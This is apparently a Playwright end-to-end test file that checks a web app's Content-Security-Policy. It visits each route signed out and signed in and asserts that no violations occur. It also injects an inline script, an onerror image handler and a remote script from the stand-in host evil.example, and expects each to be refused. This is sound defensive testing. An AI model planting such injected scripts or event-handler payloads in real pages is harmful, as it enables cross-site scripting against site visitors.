// The Content-Security-Policy in real Chromium: the built app, served by the
// local platform with the header build.mjs computed (scripts/csp.mjs, server/csp.mjs), runs
// every route, signed out and signed in, without one violation; and a script injected into the
// page (what an XSS would do) is refused. Storybook and vitest's jsdom do not use the policy.
import type { BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { useApp } from './support/app';
import { UI_TIMEOUT, useBrowser } from './support/browser';
import { expectPath, heading, logInWithCode, VISITORS } from './support/visitor';

const app = useApp();
const browser = useBrowser();

/** Violations the page reported (securitypolicyviolation events) and Chromium logged. */
interface Reports {
  events: string[];
  console: string[];
}

let context: BrowserContext;
let page: Page;
const reports: Reports = { events: [], console: [] };

beforeAll(async () => {
  context = await browser.browser.newContext({ baseURL: app.url, viewport: { width: 1280, height: 800 }, locale: 'id-ID', serviceWorkers: 'block' });
  context.setDefaultTimeout(UI_TIMEOUT);
  // Runs before the app in every document (init scripts are not subject to the page's CSP).
  await context.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { __cspViolations: string[] }).__cspViolations = seen;
    document.addEventListener('securitypolicyviolation', (event) => {
      seen.push(`${event.effectiveDirective} blocked ${event.blockedURI || 'inline'} (${event.sourceFile}:${event.lineNumber})`);
    });
  });
  page = await context.newPage();
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) reports.console.push(message.text());
  });
});

afterAll(async () => {
  await context?.close();
});

async function violationsSoFar(): Promise<string[]> {
  const events = await page.evaluate(() => (window as unknown as { __cspViolations?: string[] }).__cspViolations ?? []);
  return [...events, ...reports.console];
}

/** Opens a route, waits for its screen and its lazy parts, and returns new violations. */
async function visit(route: string): Promise<string[]> {
  const response = await page.goto(route, { waitUntil: 'load' });
  expect(response?.headers()['content-security-policy'], `CSP header on ${route}`).toMatch(/script-src 'self'/);
  await heading(page).or(page.getByRole('dialog')).or(page.getByRole('alertdialog')).first().waitFor().catch(() => {
    throw new Error(`${route} showed neither a heading nor a dialog`);
  });
  // Images, the realtime socket and lazy chunks settle (no request for 500 ms); the event handler catches late ones.
  await page.waitForLoadState('networkidle');
  return violationsSoFar();
}

const ANONYMOUS_ROUTES = ['/home', '/login', '/register', '/products', '/journey', '/countdown', '/popup-tnc', '/halaman-tidak-ada'];
const SIGNED_IN_ROUTES = [
  '/home',
  '/products',
  '/profile',
  '/my-transaction',
  '/journey',
  '/countdown',
  '/live-stream/79',
  '/live-stream/80',
  '/popup-gift',
  '/popup-alert?title=Info&message=Halo',
  '/popup-media?src=%2Fmedia%2Fprize%2F2.svg&type=image&title=Hadiah',
  '/popup-tnc',
  '/admin-gift',
];

describe('the Content-Security-Policy', () => {
  it('lets every route run without a violation, signed out and signed in', async () => {
    for (const route of ANONYMOUS_ROUTES) expect(await visit(route), route).toEqual([]);
    await page.goto('/login');
    await logInWithCode(page, VISITORS.budi.code);
    for (const route of SIGNED_IN_ROUTES) expect(await visit(route), route).toEqual([]);
    // The live session's player is framed from its stream origin (frame-src), sandboxed.
    await page.goto('/live-stream/80');
    const player = page.getByTitle('Siaran Tanya Jawab Suku Cadang Ekskavator');
    await player.waitFor();
    expect(await player.getAttribute('src')).toBe('https://siaran.contoh.id/tanya-jawab-ekskavator');
    expect(await violationsSoFar()).toEqual([]);
  });

  it('shows a visitor code whose HTML carries an event handler (Siti’s) on /profile without a violation', async () => {
    // Chromium reports an inline handler it merely parses, even in the sanitiser's inert
    // document: the platform's code_html for Siti has <img src=x onerror=…>.
    const own = await browser.browser.newContext({ baseURL: app.url, viewport: { width: 390, height: 800 }, locale: 'id-ID', serviceWorkers: 'block' });
    try {
      own.setDefaultTimeout(UI_TIMEOUT);
      const seen: string[] = [];
      await own.exposeFunction('__reportViolation', (line: string) => seen.push(line));
      await own.addInitScript(() => {
        document.addEventListener('securitypolicyviolation', (event) => {
          (window as unknown as { __reportViolation(line: string): void }).__reportViolation(`${event.effectiveDirective} blocked ${event.blockedURI || 'inline'}`);
        });
      });
      const visitor = await own.newPage();
      visitor.on('console', (message) => {
        if (/Content Security Policy/i.test(message.text())) seen.push(message.text());
      });
      await visitor.goto('/login');
      await logInWithCode(visitor, VISITORS.siti.code);
      await visitor.goto('/profile');
      await expectPath(visitor, '/profile');
      expect(await visitor.getByText('Kode undangan:').textContent()).toContain('SITI2026');
      await visitor.getByRole('button', { name: 'Ubah data' }).click();
      await visitor.getByRole('dialog').getByRole('button', { name: 'Simpan' }).click();
      await visitor.getByRole('dialog').waitFor({ state: 'detached' });
      expect(seen).toEqual([]);
    } finally {
      await own.close();
    }
  });

  it('refuses a script injected into the page, inline or from another origin', async () => {
    await page.goto('/home');
    await expectPath(page, '/home');
    await heading(page).waitFor();
    const before = await page.evaluate(() => (window as unknown as { __cspViolations: string[] }).__cspViolations.length);
    const ran = await page.evaluate(async (timeout) => {
      // The browser's own word that each script was refused: its securitypolicyviolation event.
      // Once all three are in, none of them can run any more; only then is their absence checked.
      const expected = [/^script-src(-elem)? inline$/, /^script-src(-attr)? inline$/, /^script-src(-elem)? https:\/\/evil\.example/];
      const refused: string[] = [];
      const allRefused = new Promise<boolean>((resolve) => {
        const deadline = setTimeout(() => resolve(false), timeout);
        document.addEventListener('securitypolicyviolation', (event) => {
          refused.push(`${event.effectiveDirective} ${event.blockedURI || 'inline'}`);
          if (expected.every((pattern) => refused.some((line) => pattern.test(line)))) {
            clearTimeout(deadline);
            resolve(true);
          }
        });
      });
      const inline = document.createElement('script');
      inline.textContent = 'window.__injected = "inline";';
      document.body.append(inline);
      const handler = document.createElement('img');
      handler.setAttribute('src', 'data:,x');
      handler.setAttribute('onerror', 'window.__injected = "handler";');
      document.body.append(handler);
      const remote = document.createElement('script');
      remote.src = 'https://evil.example/x.js';
      document.body.append(remote);
      const acknowledged = await allRefused;
      return { acknowledged, refused, injected: (window as unknown as { __injected?: string }).__injected ?? null };
    }, UI_TIMEOUT);
    expect(ran.acknowledged, `all three refusals reported (seen: ${ran.refused.join('; ')})`).toBe(true);
    expect(ran.injected).toBeNull();
    const reported = (await page.evaluate(() => (window as unknown as { __cspViolations: string[] }).__cspViolations)).slice(before);
    expect(reported.some((line) => /^script-src(-elem)? blocked inline/.test(line))).toBe(true);
    expect(reported.some((line) => /^script-src(-attr)? blocked inline/.test(line))).toBe(true);
    expect(reported.some((line) => /^script-src(-elem)? blocked https:\/\/evil\.example/.test(line))).toBe(true);
  });
});
